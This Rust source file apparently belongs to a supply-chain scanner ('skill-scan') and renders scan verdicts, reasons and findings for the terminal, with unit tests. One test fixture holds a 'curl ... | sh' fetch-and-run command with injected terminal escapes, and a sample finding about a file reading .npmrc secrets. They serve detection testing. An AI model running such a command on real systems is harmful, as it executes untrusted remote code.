//! Output for people: the verdict first, then the reasons, then each finding as a miette diagnostic with a
//! labelled snippet, then what was skipped.

use crate::skipped::{count, skip_kind};
use crate::snippet_source::SnippetSource;
use crate::ToolInfo;
use miette::{Diagnostic, GraphicalReportHandler, GraphicalTheme, LabeledSpan, Severity};
use skill_scan_model::{
    escape_for_terminal as esc, Finding, Origin, RecommendedAction, SuppressionKind, TargetReport,
    ThreatCategory, VerdictLevel, VerdictReason,
};
use std::collections::BTreeMap;
use std::fmt::{self, Write};

#[derive(Debug, Clone, Copy)]
pub(crate) struct TextOptions {
    pub color: bool,
    /// Also list `log`-level findings and parse notes.
    pub verbose: bool,
    /// Columns to wrap findings at (the terminal's width, see `RenderOptions::width`).
    pub width: usize,
}

impl Default for TextOptions {
    fn default() -> Self {
        TextOptions {
            color: false,
            verbose: false,
            width: crate::DEFAULT_WIDTH,
        }
    }
}

/// Which bytes the verdict is about: the archive, its hash, and the registry release it came from.
fn render_origin(out: &mut String, origin: &Origin) {
    if let Some(registry) = &origin.registry {
        let published = registry
            .published
            .as_deref()
            .map(|p| format!(", published {}", esc(p)))
            .unwrap_or_default();
        let _ = writeln!(
            out,
            "from: {} {} {}{published}: {} (matches the registry's {})",
            esc(&registry.ecosystem),
            esc(&registry.name),
            esc(&registry.version),
            esc(&registry.url),
            esc(&registry.verified)
        );
        if let Some(previous) = &registry.previous {
            let added = if previous.new_finding_ids.is_empty() {
                "no finding that it did not have".to_string()
            } else {
                format!(
                    "{} it did not have: {}",
                    count(previous.new_finding_ids.len(), "finding"),
                    previous.new_finding_ids.join(", ")
                )
            };
            let _ = writeln!(
                out,
                "compared with {} (verdict {}, sha256 {}): {added}",
                esc(&previous.version),
                previous.verdict.as_str(),
                esc(&previous.sha256)
            );
        }
    }
    let stripped = origin
        .stripped_prefix
        .as_deref()
        .map(|p| format!(", paths shown without its {}/ folder", esc(p)))
        .unwrap_or_default();
    let _ = writeln!(
        out,
        "archive: {} ({} bytes{stripped})\nsha256: {}",
        esc(&origin.archive),
        origin.size,
        esc(&origin.sha256)
    );
}

/// One line per target: `BLOCK  path (kind): N findings`.
/// `compound CMP005 ` before a compound reason (the id `skill-scan explain` documents), nothing before others.
fn compound_marker(reason: &VerdictReason) -> String {
    match (&reason.compound_id, reason.compound) {
        (Some(id), _) => format!("compound {} ", esc(id)),
        (None, true) => "compound ".into(),
        (None, false) => String::new(),
    }
}

pub(crate) fn render_quiet(reports: &[TargetReport]) -> String {
    let mut out = String::new();
    for report in reports {
        let _ = writeln!(
            out,
            "{:<6} {} ({}): {}",
            report.verdict.as_str().to_uppercase(),
            esc(&report.target),
            report.kind,
            count(report.findings.len(), "finding")
        );
    }
    out
}

pub(crate) fn render_text(
    tool: ToolInfo,
    reports: &[TargetReport],
    options: TextOptions,
) -> String {
    let mut out = String::new();
    for (n, report) in reports.iter().enumerate() {
        if n > 0 {
            out.push('\n');
        }
        render_target(&mut out, tool, report, options);
    }
    // No target scanned (each one failed with its own error): nothing to sum up.
    if !reports.is_empty() {
        render_summary(&mut out, reports, options);
    }
    out
}

/// The last screen of the output: for each target its verdict, reasons, counts by category and what was
/// left out, so the answer is visible without scrolling back through the findings.
fn render_summary(out: &mut String, reports: &[TargetReport], options: TextOptions) {
    out.push_str(
        "
── summary ",
    );
    out.push_str(&"─".repeat(60));
    out.push('\n');
    for report in reports {
        let _ = writeln!(
            out,
            "{:<6} {} ({})",
            paint(
                verdict_word(report.verdict),
                verdict_colour(report.verdict),
                options.color
            ),
            esc(&report.target),
            report.kind
        );
        const SHOWN_REASONS: usize = 5;
        for reason in report.reasons.iter().take(SHOWN_REASONS) {
            let marker = compound_marker(reason);
            let _ = writeln!(
                out,
                "  - {marker}{} / {}: {}",
                reason.category,
                reason.scope,
                shorten(&esc(&reason.rationale), 100)
            );
        }
        if report.reasons.len() > SHOWN_REASONS {
            let _ = writeln!(
                out,
                "  - … {} more above",
                count(report.reasons.len() - SHOWN_REASONS, "reason")
            );
        }
        let mut by_category: BTreeMap<ThreatCategory, usize> = BTreeMap::new();
        for finding in &report.findings {
            *by_category.entry(finding.category).or_default() += 1;
        }
        let categories: Vec<String> = by_category
            .iter()
            .map(|(category, count)| format!("{category} {count}"))
            .collect();
        let by_action = |action| {
            report
                .findings
                .iter()
                .filter(|f| f.action == action)
                .count()
        };
        let _ = writeln!(
            out,
            "  findings: {} (block {}, review {}, log {}){}",
            report.findings.len(),
            by_action(RecommendedAction::Block),
            by_action(RecommendedAction::Review),
            by_action(RecommendedAction::Log),
            if categories.is_empty() {
                String::new()
            } else {
                format!(" · {}", categories.join(", "))
            }
        );
        let _ = writeln!(
            out,
            "  files: {} scanned, {} skipped · {} suppressed",
            report.files_scanned,
            report.skipped.len(),
            report.suppressed.len()
        );
    }
}

/// At most `limit` characters, with an ellipsis when cut.
fn shorten(text: &str, limit: usize) -> String {
    if text.chars().count() <= limit {
        return text.to_string();
    }
    let cut: String = text.chars().take(limit.saturating_sub(1)).collect();
    format!("{cut}…")
}

fn render_target(out: &mut String, tool: ToolInfo, report: &TargetReport, options: TextOptions) {
    // Log-level findings are noise on their own, but not when a reason cites them as evidence.
    let cited: Vec<&str> = report
        .reasons
        .iter()
        .flat_map(|r| r.finding_ids.iter().map(String::as_str))
        .collect();
    let shown: Vec<&Finding> = report
        .findings
        .iter()
        .filter(|f| {
            options.verbose || f.action > RecommendedAction::Log || cited.contains(&f.id.as_str())
        })
        .collect();
    let _ = writeln!(
        out,
        "{} {} · {} ({})",
        tool.name,
        tool.version,
        esc(&report.target),
        report.kind
    );
    let suppressed = if report.suppressed.is_empty() {
        String::new()
    } else {
        format!(", {} suppressed", report.suppressed.len())
    };
    let _ = writeln!(
        out,
        "verdict: {}  ({}, {} scanned, {} skipped{suppressed})",
        paint(
            verdict_word(report.verdict),
            verdict_colour(report.verdict),
            options.color
        ),
        count(report.findings.len(), "finding"),
        count(report.files_scanned, "file"),
        report.skipped.len()
    );
    if let Some(why) = &report.incomplete {
        let _ = writeln!(
            out,
            "scan incomplete: {} (the verdict cannot be allow)",
            esc(why)
        );
    }
    if let Some(origin) = &report.origin {
        render_origin(out, origin);
    }
    if !report.reasons.is_empty() {
        out.push_str("\nreasons:\n");
        for reason in &report.reasons {
            let marker = compound_marker(reason);
            let _ = writeln!(
                out,
                "  - {marker}{} / {}: {} [{}]",
                reason.category,
                reason.scope,
                esc(&reason.rationale),
                reason.finding_ids.join(", ")
            );
        }
    }
    if !shown.is_empty() {
        out.push_str("\nfindings:\n");
        let handler = handler(options.color, options.width);
        for finding in &shown {
            let mut rendered = String::new();
            match handler.render_report(&mut rendered, &FindingDiagnostic::new(finding)) {
                Ok(()) => out.push_str(&rendered),
                Err(_) => {
                    let _ = writeln!(
                        out,
                        "  {}:{}:{} {}",
                        esc(&finding.path),
                        finding.line,
                        finding.column,
                        finding.rule_id
                    );
                }
            }
            // The other places that explain it: the source of a data flow, the decoded payload.
            for related in &finding.related {
                let _ = writeln!(
                    out,
                    "    related: {}:{}:{}: {}",
                    esc(&related.path),
                    related.line,
                    related.column,
                    esc(&related.message)
                );
            }
        }
    }
    let hidden = report.findings.len() - shown.len();
    if hidden > 0 {
        let _ = writeln!(
            out,
            "\n({} not shown; --verbose lists them)",
            count(hidden, "log-level finding")
        );
    }
    render_skipped(out, report, options.verbose);
    if !report.suppressed.is_empty() {
        let of_kind = |kind| {
            report
                .suppressed
                .iter()
                .filter(|s| s.suppression.kind == kind)
                .count()
        };
        let _ = write!(
            out,
            "\n{} not counted (config {}, baseline {}, inline {})",
            count(report.suppressed.len(), "suppressed finding"),
            of_kind(SuppressionKind::Config),
            of_kind(SuppressionKind::Baseline),
            of_kind(SuppressionKind::Inline)
        );
        if options.verbose {
            out.push_str(":\n");
            for item in &report.suppressed {
                let _ = writeln!(
                    out,
                    "  - {} {}:{}: {} ({})",
                    item.finding.rule_id,
                    esc(&item.finding.path),
                    item.finding.line,
                    esc(&item.suppression.reason),
                    esc(&item.suppression.source)
                );
            }
        } else {
            out.push_str("; --verbose lists them\n");
        }
    }
    if options.verbose && !report.calibration.is_empty() {
        out.push_str("\ncalibration:\n");
        for note in &report.calibration {
            let _ = writeln!(
                out,
                "  - {}: {} -> {}: {} [{}]",
                note.group,
                note.from,
                note.to,
                esc(&note.reason),
                note.finding_ids.join(", ")
            );
        }
    }
    if options.verbose && !report.diagnostics.is_empty() {
        out.push_str("\nnotes:\n");
        for note in &report.diagnostics {
            let _ = writeln!(out, "  - {}: {}", esc(&note.path), esc(&note.message));
        }
    }
}

/// What was not read: one line per kind of skip with how many files, and (`verbose`) every file with
/// its reason. Hundreds of `.pyc` files are one line, not hundreds.
fn render_skipped(out: &mut String, report: &TargetReport, verbose: bool) {
    if report.skipped.is_empty() {
        return;
    }
    if verbose {
        out.push_str("\nskipped:\n");
        for skipped in &report.skipped {
            let _ = writeln!(out, "  - {}: {}", esc(&skipped.path), esc(&skipped.reason));
        }
        return;
    }
    let mut by_kind: BTreeMap<&str, Vec<&str>> = BTreeMap::new();
    for skipped in &report.skipped {
        by_kind
            .entry(skip_kind(&skipped.reason))
            .or_default()
            .push(&skipped.path);
    }
    out.push_str("\nskipped (--verbose lists every file):\n");
    for (kind, paths) in by_kind {
        let example = if paths.len() == 1 {
            esc(paths[0])
        } else {
            format!("e.g. {}", esc(paths[0]))
        };
        let _ = writeln!(
            out,
            "  - {}: {} ({example})",
            esc(kind),
            count(paths.len(), "file")
        );
    }
}

fn handler(color: bool, width: usize) -> GraphicalReportHandler {
    let theme = if color {
        GraphicalTheme::unicode()
    } else {
        GraphicalTheme::unicode_nocolor()
    };
    GraphicalReportHandler::new_themed(theme)
        .with_width(width)
        .with_links(false)
}

fn verdict_word(level: VerdictLevel) -> &'static str {
    match level {
        VerdictLevel::Allow => "ALLOW",
        VerdictLevel::Review => "REVIEW",
        VerdictLevel::Block => "BLOCK",
    }
}

fn verdict_colour(level: VerdictLevel) -> &'static str {
    match level {
        VerdictLevel::Allow => "32",
        VerdictLevel::Review => "33",
        VerdictLevel::Block => "1;31",
    }
}

fn paint(text: &str, colour: &str, enabled: bool) -> String {
    if enabled {
        format!("\u{1b}[{colour}m{text}\u{1b}[0m")
    } else {
        text.to_string()
    }
}

/// A finding seen through miette's eyes.
#[derive(Debug)]
struct FindingDiagnostic {
    message: String,
    code: String,
    help: String,
    severity: Severity,
    source: SnippetSource,
    label: LabeledSpan,
}

impl FindingDiagnostic {
    fn new(finding: &Finding) -> Self {
        // Escaping can lengthen the text, so the highlight is recomputed on the escaped pieces.
        let (start, end) = finding.snippet_highlight;
        let raw = &finding.snippet;
        let (start, end) = (
            start.min(raw.len()),
            end.min(raw.len()).max(start.min(raw.len())),
        );
        let before = esc(raw.get(..start).unwrap_or(""));
        let hit = esc(raw.get(start..end).unwrap_or(""));
        let after = esc(raw.get(end..).unwrap_or(""));
        // The rule id is the diagnostic's code, printed once in its header; the label says where it sits.
        let label_text = format!("{}, {}", finding.context, finding.scope);
        FindingDiagnostic {
            message: format!(
                "{}  [{}:{}:{}]",
                finding.message,
                esc(&finding.path),
                finding.line,
                finding.column
            ),
            code: finding.rule_id.clone(),
            help: finding.why.clone(),
            severity: match finding.action {
                RecommendedAction::Block => Severity::Error,
                RecommendedAction::Review => Severity::Warning,
                RecommendedAction::Log => Severity::Advice,
            },
            label: LabeledSpan::new(Some(label_text), before.len(), hit.len().max(1)),
            source: SnippetSource {
                name: esc(&finding.path),
                text: format!("{before}{hit}{after}"),
                first_line: finding.line.saturating_sub(1),
            },
        }
    }
}

impl fmt::Display for FindingDiagnostic {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.message)
    }
}

impl std::error::Error for FindingDiagnostic {}

impl Diagnostic for FindingDiagnostic {
    fn code<'a>(&'a self) -> Option<Box<dyn fmt::Display + 'a>> {
        Some(Box::new(&self.code))
    }
    fn severity(&self) -> Option<Severity> {
        Some(self.severity)
    }
    fn help<'a>(&'a self) -> Option<Box<dyn fmt::Display + 'a>> {
        (!self.help.is_empty()).then(|| Box::new(&self.help) as Box<dyn fmt::Display>)
    }
    fn source_code(&self) -> Option<&dyn miette::SourceCode> {
        Some(&self.source)
    }
    fn labels(&self) -> Option<Box<dyn Iterator<Item = LabeledSpan> + '_>> {
        Some(Box::new(std::iter::once(self.label.clone())))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::json::render_json;
    use crate::test_support::{blocked_report, curl_finding};
    use skill_scan_model::*;

    fn report() -> TargetReport {
        let mut finding = curl_finding(
            "install\u{1b}[31m.sh",
            "  curl -s \u{1b}]8;;x\u{7}http://x | sh",
        );
        (finding.line, finding.column) = (12, 3);
        (finding.end_line, finding.end_column) = (12, 20);
        finding.why = "Runs whatever the server sends.".into();
        finding.snippet_highlight = (2, 33);
        finding.mitre = vec!["T1059.004".into()];
        finding.capabilities = vec![Capability::RemoteExec];
        let mut report = blocked_report(finding, "Runs code fetched at run time");
        report.calibration = vec![CalibrationNote {
            group: "remote_exec/supporting_artifact/malicious_behavior".into(),
            from: RecommendedAction::Block,
            to: RecommendedAction::Review,
            reason: "found only in test files".into(),
            finding_ids: vec!["f9".into()],
        }];
        report.skipped = vec![Skipped {
            path: "link".into(),
            reason: "symbolic link".into(),
        }];
        report.files_scanned = 3;
        report
    }

    const TOOL: ToolInfo = ToolInfo {
        name: "skill-scan",
        version: "0.0.0",
    };

    #[test]
    fn text_shows_verdict_reasons_and_located_findings_without_raw_escapes() {
        let text = render_text(TOOL, &[report()], TextOptions::default());
        assert!(!text.contains('\u{1b}'), "{text}");
        assert!(!text.contains('\u{7}'), "{text}");
        assert!(text.contains("verdict: BLOCK"));
        assert!(text.contains("RCE001"));
        assert!(text.contains(":12:3]"), "{text}");
        assert!(text.contains("12 │"), "real line number shown: {text}");
        assert!(text.contains("Runs whatever the server sends."));
        assert!(
            text.contains(
                "skipped (--verbose lists every file):\n  - symbolic link: 1 file (link)"
            ),
            "{text}"
        );
    }

    #[test]
    fn skipped_files_are_summed_up_by_kind_and_listed_under_verbose() {
        let mut report = report();
        report.skipped = (0..300)
            .map(|n| Skipped {
                path: format!("c/m{n}.pyc"),
                reason: "binary file (compiled Python); not scanned as text".into(),
            })
            .collect();
        let plain = render_text(TOOL, std::slice::from_ref(&report), TextOptions::default());
        assert!(
            plain.contains("  - binary file (compiled Python): 300 files (e.g. c/m0.pyc)\n"),
            "{plain}"
        );
        assert!(!plain.contains("c/m299.pyc"), "{plain}");
        let verbose = render_text(
            TOOL,
            &[report],
            TextOptions {
                verbose: true,
                ..TextOptions::default()
            },
        );
        assert!(verbose.contains("  - c/m299.pyc: binary file"), "{verbose}");
    }

    #[test]
    fn findings_wrap_at_the_width_given() {
        let mut report = report();
        report.findings[0].why = "word ".repeat(60);
        let narrow = render_text(
            TOOL,
            std::slice::from_ref(&report),
            TextOptions {
                width: 60,
                ..TextOptions::default()
            },
        );
        let wide = render_text(TOOL, &[report], TextOptions::default());
        let longest = |text: &str| {
            text.lines()
                .filter(|l| l.contains("word"))
                .map(|l| l.chars().count())
                .max()
                .unwrap_or(0)
        };
        assert!(longest(&narrow) <= 60, "{narrow}");
        assert!(longest(&wide) > 60, "{wide}");
    }

    #[test]
    fn calibration_notes_show_under_verbose_only() {
        let plain = render_text(TOOL, &[report()], TextOptions::default());
        assert!(!plain.contains("calibration:"));
        let verbose = render_text(
            TOOL,
            &[report()],
            TextOptions {
                verbose: true,
                color: false,
                width: 120,
            },
        );
        assert!(verbose.contains("calibration:\n  - remote_exec/supporting_artifact/malicious_behavior: block -> review: found only in test files [f9]"), "{verbose}");
    }

    #[test]
    fn compound_reasons_are_marked_with_their_id() {
        let mut report = report();
        report.reasons[0].compound = true;
        report.reasons[0].compound_id = Some("CMP002".into());
        let text = render_text(TOOL, std::slice::from_ref(&report), TextOptions::default());
        assert!(
            text.contains("  - compound CMP002 remote_exec / package_root_artifact:"),
            "{text}"
        );
        report.reasons[0].compound_id = None;
        let text = render_text(TOOL, &[report], TextOptions::default());
        assert!(
            text.contains("  - compound remote_exec / package_root_artifact:"),
            "{text}"
        );
    }

    #[test]
    fn log_findings_show_when_a_reason_cites_them() {
        let mut report = report();
        let mut log = report.findings[0].clone();
        log.id = "f2".into();
        log.rule_id = "EXF009".into();
        log.action = RecommendedAction::Log;
        report.findings.push(log.clone());
        let hidden = render_text(TOOL, &[report.clone()], TextOptions::default());
        assert!(!hidden.contains("EXF009"));
        assert!(
            hidden.contains("(1 log-level finding not shown"),
            "{hidden}"
        );
        report.reasons[0].finding_ids.push("f2".into());
        let shown = render_text(TOOL, &[report], TextOptions::default());
        assert!(shown.contains("EXF009"), "{shown}");
    }

    #[test]
    fn related_locations_are_listed_under_their_finding() {
        let mut report = report();
        report.findings[0].related.push(RelatedLocation {
            path: "lib/\u{1b}[2Jsteal.js".into(),
            line: 3,
            column: 7,
            message: "secret read here (reads .npmrc)".into(),
        });
        let text = render_text(TOOL, &[report], TextOptions::default());
        assert!(!text.contains('\u{1b}'), "{text}");
        let line = text
            .lines()
            .find(|l| l.contains("related:"))
            .unwrap_or_else(|| panic!("no related line: {text}"));
        assert!(
            line.ends_with(":3:7: secret read here (reads .npmrc)"),
            "{line}"
        );
    }

    #[test]
    fn a_summary_ends_the_output_with_verdict_reasons_and_counts() {
        let text = render_text(TOOL, &[report()], TextOptions::default());
        let summary = text.split("── summary ").nth(1).expect("a summary");
        assert!(summary.contains("\nBLOCK  pkg (npm)\n"), "{summary}");
        assert!(
            summary
                .contains("  - remote_exec / package_root_artifact: Runs code fetched at run time"),
            "{summary}"
        );
        assert!(
            summary.contains("  findings: 1 (block 1, review 0, log 0) · remote_exec 1"),
            "{summary}"
        );
        assert!(
            summary.contains("  files: 3 scanned, 1 skipped · 0 suppressed"),
            "{summary}"
        );
        assert!(summary.lines().count() < 25, "one screen: {summary}");
    }

    #[test]
    fn suppressed_findings_are_counted_and_listed_under_verbose() {
        let mut report = report();
        report.suppressed.push(SuppressedFinding {
            finding: report.findings[0].clone(),
            suppression: Suppression {
                kind: SuppressionKind::Baseline,
                reason: "accepted\u{1b}[2J".into(),
                source: "base.json".into(),
            },
        });
        let plain = render_text(TOOL, &[report.clone()], TextOptions::default());
        assert!(plain.contains("1 skipped, 1 suppressed)"), "{plain}");
        assert!(
            plain.contains("1 suppressed finding not counted (config 0, baseline 1, inline 0); --verbose lists them"),
            "{plain}"
        );
        let verbose = render_text(
            TOOL,
            &[report],
            TextOptions {
                verbose: true,
                color: false,
                width: 120,
            },
        );
        assert!(verbose.contains("(base.json)"), "{verbose}");
        assert!(!verbose.contains('\u{1b}'), "{verbose}");
    }

    #[test]
    fn colour_only_when_asked() {
        let plain = render_text(TOOL, &[report()], TextOptions::default());
        assert!(!plain.contains('\u{1b}'));
        let coloured = render_text(
            TOOL,
            &[report()],
            TextOptions {
                color: true,
                verbose: false,
                width: 120,
            },
        );
        assert!(
            coloured.contains("\u{1b}[1;31mBLOCK\u{1b}[0m"),
            "{coloured}"
        );
    }

    #[test]
    fn quiet_is_one_line_per_target() {
        assert_eq!(render_quiet(&[report()]), "BLOCK  pkg (npm): 1 finding\n");
    }

    #[test]
    fn json_has_the_contract_fields() {
        let json = render_json(TOOL, &[report()]);
        let value: serde_json::Value = serde_json::from_str(&json).unwrap();
        assert_eq!(value["schema_version"], "1");
        let target = &value["targets"][0];
        assert_eq!(target["verdict"], "block");
        assert_eq!(target["findings"][0]["scope"], "package_root_artifact");
        assert_eq!(target["findings"][0]["context"], "code");
        assert_eq!(target["reasons"][0]["compound"], false);
        assert!(target["findings"][0].get("why").is_none());
    }
}
